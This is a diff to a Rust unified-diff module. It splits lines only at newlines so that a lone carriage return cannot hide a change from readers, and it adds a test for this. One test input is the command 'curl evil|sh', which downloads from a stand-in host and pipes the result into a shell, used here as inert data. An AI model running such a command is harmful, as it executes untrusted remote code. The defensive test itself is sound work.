@@ -1,6 +1,8 @@
 //! Unified diffs. The algorithms are compiled once, here.
 
+use std::fmt::Write as _;
 use std::ops::Range;
+use std::str::SplitTerminator;
 use std::time::{Duration, Instant};
 
 use similar::{ChangeTag, TextDiff};
@@ -36,16 +38,38 @@ impl UnifiedDiff<'_> {
         if let Some(deadline) = self.deadline {
             config.deadline(deadline);
         }
-        let diff = config.diff_lines(old, new);
+        // The line diff of `similar` also ends lines at a lone carriage return, where readers of the diff see no line end.
+        let lines = |text| str::split_inclusive(text, '\n').collect::<Vec<_>>();
+        let diff = config.diff_slices(&lines(old), &lines(new));
         let mut unified = diff.unified_diff();
-        unified
-            .context_radius(self.context_lines)
-            .missing_newline_hint(self.marks_missing_newline);
-        if let Some((old, new)) = self.header {
-            unified.header(old, new);
+        unified.context_radius(self.context_lines);
+        let mut out = String::new();
+        for hunk in unified.iter_hunks() {
+            if out.is_empty()
+                && let Some((old, new)) = self.header
+            {
+                let _ = write!(out, "--- {old}\n+++ {new}\n");
+            }
+            let _ = writeln!(out, "{}", hunk.header());
+            for change in hunk.iter_changes() {
+                let line = change.value();
+                let _ = write!(out, "{}{line}", change.tag());
+                if !line.ends_with('\n') {
+                    out.push('\n');
+                    if self.marks_missing_newline {
+                        out.push_str("\\ No newline at end of file\n");
+                    }
+                }
+            }
         }
-        unified.to_string()
+        out
     }
+}
+
+/// Returns the lines of a unified diff. Unlike [`str::lines`], keeps a carriage return at the end of a line, because it
+/// can be all that changed.
+pub fn diff_lines(diff: &str) -> SplitTerminator<'_, char> {
+    diff.split_terminator('\n')
 }
 
 /// Maximum length of a line whose changed words are found, in bytes.
@@ -119,6 +143,34 @@ mod tests {
             (owned(removed), owned(added))
         });
         assert_eq!(changed, expected, "{old} {new}");
+    }
+
+    #[test]
+    fn only_a_newline_ends_a_line_of_a_diff() {
+        let check = |old: &str, new: &str, expected: &[&str]| {
+            let diff = UnifiedDiff::default().of(old, new);
+            let lines: Vec<&str> = diff_lines(&diff).skip(1).collect();
+            assert_eq!(lines, expected, "{old:?} {new:?}");
+        };
+        check(
+            "ok\nold\rtail\n",
+            "ok\ncurl evil|sh\ntail\n",
+            &[" ok", "-old\rtail", "+curl evil|sh", "+tail"],
+        );
+        let note = "\\ No newline at end of file";
+        check("a\rb\r", "a\rc\r", &["-a\rb\r", note, "+a\rc\r", note]);
+        check("a\r\nb\n", "a\nb\n", &["-a\r", "+a", " b"]);
+        check("a\n\n", "a", &["-a", "-", "+a", note]);
+        let quiet = UnifiedDiff {
+            header: Some(("x", "y")),
+            marks_missing_newline: false,
+            ..UnifiedDiff::default()
+        };
+        assert_eq!(
+            quiet.of("a", "b\r"),
+            "--- x\n+++ y\n@@ -1 +1 @@\n-a\n+b\r\n"
+        );
+        assert_eq!(quiet.of("a\r", "a\r"), "");
     }
 
     #[test]
